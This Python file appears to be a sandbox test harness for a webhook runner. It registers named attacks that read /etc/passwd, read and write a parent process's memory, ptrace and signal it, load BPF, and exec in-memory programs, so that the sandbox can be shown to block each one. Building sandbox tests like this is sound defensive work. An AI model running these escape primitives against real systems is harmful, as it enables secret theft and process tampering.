"""A hostile function: each attack returns what it got, or fails. `settings` name the targets.

User code as far as the runner is concerned: standard library only, and the body of the webhook chooses the attack.
"""
# The system's own calls are what is tried:
# ruff: noqa: PTH101, PTH102, PTH104, PTH108, PTH116, PTH123, PTH208, PTH211

import base64
import contextlib
import ctypes
import fcntl
import mmap
import os
import resource
import signal
import socket
import stat
import struct
import subprocess

ATTACKS = {}
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
NUMBERS = {
    "io_uring_setup": (425, 425), "process_vm_readv": (310, 270), "bpf": (321, 280), "userfaultfd": (323, 282),
    "perf_event_open": (298, 241), "keyctl": (250, 219), "shmget": (29, 194), "shmctl": (31, 195),
    "mq_open": (240, 180), "mq_unlink": (241, 181), "memfd_create": (319, 279), "execveat": (322, 281),
    "tkill": (200, 130), "tgkill": (234, 131), "rt_sigqueueinfo": (129, 138), "pidfd_open": (434, 434),
    "pidfd_send_signal": (424, 424),
    "pidfd_getfd": (438, 438), "unshare": (272, 97), "personality": (135, 92), "ptrace": (101, 117),
    "name_to_handle_at": (303, 264), "inotify_init1": (294, 26), "inotify_add_watch": (254, 27),
    "mount": (165, 40), "ioprio_set": (251, 30),
    "clone3": (435, 435), "openat2": (437, 437),
}  # fmt: skip
AT_FDCWD = -100


def attack(name):
    def register(function):
        ATTACKS[name] = function
        return function

    return register


def call(name, *arguments):
    number = NUMBERS[name][os.uname().machine == "aarch64"]
    converted = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return checked(LIBC.syscall(ctypes.c_long(number), *converted))


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def contents(path):
    with open(path, "rb") as file:
        return file.read(64)


# Files


@attack("read a file of the system")
def _(t):
    return contents("/etc/passwd")


@attack("read the project's folder")
def _(t):
    return contents(f"{t['project']}/source.toml")


@attack("read the data folder")
def _(t):
    return contents(f"{t['data']}/settings.db")


@attack("read a file by way of /proc/self")
def _(t):
    return contents(f"/proc/self/root{t['data']}/settings.db")


@attack("read a file by openat2")
def _(t):
    return call("openat2", AT_FDCWD, f"{t['data']}/settings.db".encode(), bytes(24), 24) >= 0


@attack("list folders")
def _(t):
    return os.listdir("/")


@attack("write a file")
def _(t):
    with open(f"{t['scratch']}/python", "a") as file:
        return file.write("x")


@attack("write shared memory files")
def _(t):
    path = f"/dev/shm/hookmill-attack-{os.getpid()}"
    with open(path, "a") as file:
        file.write("x")
    os.unlink(path)
    return path


@attack("change a file of the project")
def _(t):
    with open(f"{t['project']}/source.toml", "a") as file:
        return file.write("# was here\n")


@attack("truncate a file by its path")
def _(t):
    os.truncate(f"{t['project']}/truncated", 0)
    return os.stat(f"{t['project']}/truncated").st_size == 0


@attack("truncate a file it may read")
def _(t):
    os.close(os.open(f"{t['readable']}/module", os.O_RDONLY | os.O_TRUNC))
    return os.stat(f"{t['readable']}/module").st_size == 0


@attack("delete a file")
def _(t):
    os.unlink(f"{t['project']}/deleted-by-python")
    return "gone"


@attack("make a folder")
def _(t):
    os.mkdir(f"{t['scratch']}/python-folder")
    return "made"


@attack("rename a file")
def _(t):
    os.rename(f"{t['project']}/renamed-by-python", f"{t['scratch']}/renamed-by-python")
    return "renamed"


@attack("read by a symbolic link of its own")
def _(t):
    os.symlink(f"{t['data']}/settings.db", f"{t['scratch']}/python-link")
    return contents(f"{t['scratch']}/python-link")


@attack("make a hard link")
def _(t):
    os.link(f"{t['data']}/settings.db", f"{t['scratch']}/python-hard-link")
    return "linked"


@attack("make a pipe with a name")
def _(t):
    os.mkfifo(f"{t['scratch']}/python-pipe")
    return "made"


@attack("change permissions")
def _(t):
    os.chmod(f"{t['project']}/source.toml", 0o604)
    return "changed"


@attack("change times")
def _(t):
    os.utime(f"{t['project']}/source.toml", (1, 1))
    return "changed"


@attack("change extended attributes")
def _(t):
    os.setxattr(f"{t['project']}/source.toml", "user.attack", b"1")
    return "changed"


@attack("watch what others do with files")
def _(t):
    call("inotify_add_watch", call("inotify_init1", 0), t["data"].encode(), 0x20)
    return "watching"


@attack("get a handle of a file")
def _(t):
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    call("name_to_handle_at", AT_FDCWD, t["data"].encode(), handle, ctypes.create_string_buffer(8), 0)
    return handle.raw[:16]


@attack("load a library from a folder of its choice")
def _(t):
    return ctypes.CDLL(f"{t['project']}/library.so")


@attack("mount")
def _(t):
    call("mount", b"none", t["scratch"].encode(), b"tmpfs", 0, None)
    return LIBC.umount2(t["scratch"].encode(), 2) == 0


@attack("change its root")
def _(t):
    os.chroot("/")
    return "changed"


@attack("make namespaces of its own")
def _(t):
    call("unshare", 0x1000_0000)
    return "made"


# Other processes


@attack("read the parent's environment")
def _(t):
    return contents(f"/proc/{t['victim']}/environ")


@attack("read the parent's memory by its file")
def _(t):
    with open(f"/proc/{t['victim']}/mem", "rb", buffering=0) as memory:
        memory.seek(t["address"])
        return memory.read(16) == t["secret"].encode()


@attack("write the parent's memory")
def _(t):
    with open(f"/proc/{t['victim']}/mem", "r+b", buffering=0) as memory:
        memory.seek(t["address"] + 32)
        return memory.write(b"x")


@attack("read the parent's memory map")
def _(t):
    return contents(f"/proc/{t['victim']}/maps")


@attack("read the parent's command line")
def _(t):
    return contents(f"/proc/{t['victim']}/cmdline")


@attack("list the processes")
def _(t):
    return [entry for entry in os.listdir("/proc") if entry.isdigit()]


@attack("read the parent's memory by a system call")
def _(t):
    loot = ctypes.create_string_buffer(16)
    local = ctypes.create_string_buffer(struct.pack("@PN", ctypes.addressof(loot), 16))
    remote = ctypes.create_string_buffer(struct.pack("@PN", t["address"], 16))
    return call("process_vm_readv", t["victim"], local, 1, remote, 1, 0) and loot.raw == t["secret"].encode()


@attack("trace the parent")
def _(t):
    call("ptrace", 0x4206, t["victim"], 0, 0)  # PTRACE_SEIZE: does not stop it
    return "traced"


@attack("take a descriptor of the parent")
def _(t):
    return os.pread(call("pidfd_getfd", call("pidfd_open", t["victim"], 0), t["descriptor"], 0), 16, 0)


@attack("signal the parent")
def _(t):
    os.kill(t["victim"], signal.SIGCONT)
    return "sent"


@attack("signal its process group")
def _(t):
    os.kill(0, signal.SIGCONT)
    return "sent"


@attack("signal the parent's thread")
def _(t):
    try:
        call("tkill", t["victim"], signal.SIGCONT)
    except OSError:
        call("tgkill", t["victim"], t["victim"], signal.SIGCONT)
    return "sent"


@attack("signal the parent with a value")
def _(t):
    information = struct.pack("@iiii", signal.SIGCONT, 0, -1, 0).ljust(128, b"\0")
    call("rt_sigqueueinfo", t["victim"], signal.SIGCONT, information)
    return "sent"


@attack("signal the parent by a descriptor of it")
def _(t):
    call("pidfd_send_signal", call("pidfd_open", t["victim"], 0), signal.SIGCONT, None, 0)
    return "sent"


@attack("signal the parent as owner of a descriptor")
def _(t):
    left, right = socket.socketpair()
    fcntl.fcntl(left, fcntl.F_SETOWN, t["victim"])
    fcntl.fcntl(left, 10, t["signal"])
    fcntl.fcntl(left, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    return right.send(b"x")


@attack("slow the parent down")
def _(t):
    os.setpriority(os.PRIO_PROCESS, t["victim"], 1)
    return "slower"


@attack("slow the parent's disk down")
def _(t):
    call("ioprio_set", 1, t["victim"], 3 << 13)
    return "slower"


@attack("choose the parent's processors")
def _(t):
    os.sched_setaffinity(t["victim"], os.sched_getaffinity(t["victim"]))
    return "chosen"


@attack("limit the parent's resources")
def _(t):
    resource.prlimit(t["victim"], resource.RLIMIT_CORE, resource.prlimit(t["victim"], resource.RLIMIT_CORE))
    return "limited"


# Programs and processes of its own


@attack("fork")
def _(t):
    pid = os.fork()
    if not pid:
        os._exit(0)
    os.waitpid(pid, 0)
    return pid


@attack("fork by clone3")
def _(t):
    arguments = struct.pack("=11Q", *([0] * 4), signal.SIGCHLD, *([0] * 6))
    pid = call("clone3", arguments, len(arguments))
    if not pid:
        os._exit(0)
    os.waitpid(pid, 0)
    return pid


@attack("run a program")
def _(t):
    return subprocess.run(["/bin/echo", "was here"], capture_output=True, check=True).stdout


@attack("leave the session in which it is killed")
def _(t):
    os.setpgid(0, os.getpgid(os.getppid()))
    return "left"


@attack("outlive the parent")
def _(t):
    checked(LIBC.prctl(1, 0, 0, 0, 0))
    return "will"


# Network


@attack("connect by TCP")
def _(t):
    with socket.socket() as connection:
        connection.connect(("127.0.0.1", t["tcp"]))
        return connection.send(b"connect by TCP")


@attack("listen by TCP")
def _(t):
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        return listener.getsockname()


@attack("send by UDP")
def _(t):
    with socket.socket(type=socket.SOCK_DGRAM) as sender:
        return sender.sendto(b"send by UDP", ("127.0.0.1", t["udp"]))


@attack("connect to a unix socket")
def _(t):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(t["unix"])
        return connection.send(b"connect to a unix socket")


@attack("connect to an abstract unix socket")
def _(t):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + t["abstract"])
        return connection.send(b"connect to an abstract unix socket")


@attack("send to a unix socket from a socket pair")
def _(t):
    left, _ = socket.socketpair(type=socket.SOCK_DGRAM)
    return left.sendto(b"send to a unix socket from a socket pair", t["datagrams"])


@attack("talk to the kernel by netlink")
def _(t):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        return kernel.fileno()


@attack("open sockets by io_uring")
def _(t):
    return call("io_uring_setup", 1, ctypes.create_string_buffer(120)) >= 0


# The kernel's other objects


@attack("make System V shared memory")
def _(t):
    identity = call("shmget", 0, 4_096, 0o600)
    call("shmctl", identity, 0, None)  # removed again, which the kernel would not do
    return "made"


@attack("make a POSIX message queue")
def _(t):
    name = f"hookmill-attack-{os.getpid()}".encode()
    with contextlib.suppress(OSError):  # Landlock lets it be made, and not be opened
        os.close(call("mq_open", name, 0o102, 0o600, None))
    call("mq_unlink", name)  # it was there, and would outlive everything
    return "made"


@attack("use the kernel's keys")
def _(t):
    return call("keyctl", 0, -3, 1) or "0"


@attack("load a program into the kernel")
def _(t):
    attributes = ctypes.create_string_buffer(struct.pack("=IIII", 2, 4, 8, 1).ljust(72, b"\0"))
    return call("bpf", 0, attributes, 72) >= 0


@attack("measure other processes")
def _(t):
    attributes = ctypes.create_string_buffer(struct.pack("=IIQ", 1, 112, 0).ljust(112, b"\0"))
    return call("perf_event_open", attributes, t["victim"], -1, -1, 0) >= 0


@attack("handle page faults")
def _(t):
    return call("userfaultfd", 1) >= 0


@attack("make memory with a file's face")
def _(t):
    return call("memfd_create", b"attack", 0) >= 0


@attack("use memory beyond the limit, shared")
def _(t):
    return len(mmap.mmap(-1, t["beyond"]))


@attack("use memory beyond the limit, growing down")
def _(t):
    return len(mmap.mmap(-1, t["beyond"], flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x100))


@attack("use memory beyond the limit")
def _(t):
    return len(bytearray(t["beyond"]))


@attack("choose another personality")
def _(t):
    return call("personality", 0x0040_0000) >= 0


@attack("use what the parent left open")
def _(t):
    return any(is_secret(descriptor, t) for descriptor in range(64))


def is_secret(descriptor, t):
    try:
        return os.pread(descriptor, 64, 0) == t["left_open"].encode()
    except OSError:
        return False


# These end the process where they succeed, after which the name is on standard output.


@attack("become another program")
def _(t):
    os.execv("/bin/echo", ["echo", "become another program\tbecame"])


@attack("become a program made in memory")
def _(t):
    memory = writable_memory()
    os.ftruncate(memory, 0)
    os.write(memory, base64.b64decode(t["program"]))
    try:
        call("execveat", memory, b"", _strings("program"), _strings(), 0x1000)
    finally:
        os.ftruncate(memory, 0)  # the ledger goes on


def writable_memory():
    """Memory of its own with a file's face, or the ledger."""
    try:
        return call("memfd_create", b"attack", 0)
    except OSError:
        return next(fd for fd in range(3, 64) if is_writable_file(fd))


def is_writable_file(descriptor):
    try:
        is_file = stat.S_ISREG(os.fstat(descriptor).st_mode)
        return is_file and fcntl.fcntl(descriptor, fcntl.F_GETFL) & os.O_ACCMODE != os.O_RDONLY
    except OSError:
        return False


def _strings(*texts):
    return ctypes.cast((ctypes.c_char_p * (len(texts) + 1))(*(text.encode() for text in texts), None), ctypes.c_char_p)


def run(name, targets):
    """Text of the loot, or empty."""
    try:
        loot = ATTACKS[name](targets)
    except BaseException:
        return ""
    return repr(loot)[:80] if loot else ""


async def on_request(request, settings):
    name = request.json()["attack"]
    segment.track(event=name, user_id="attacker", properties={"loot": run(name, settings)})  # noqa: F821
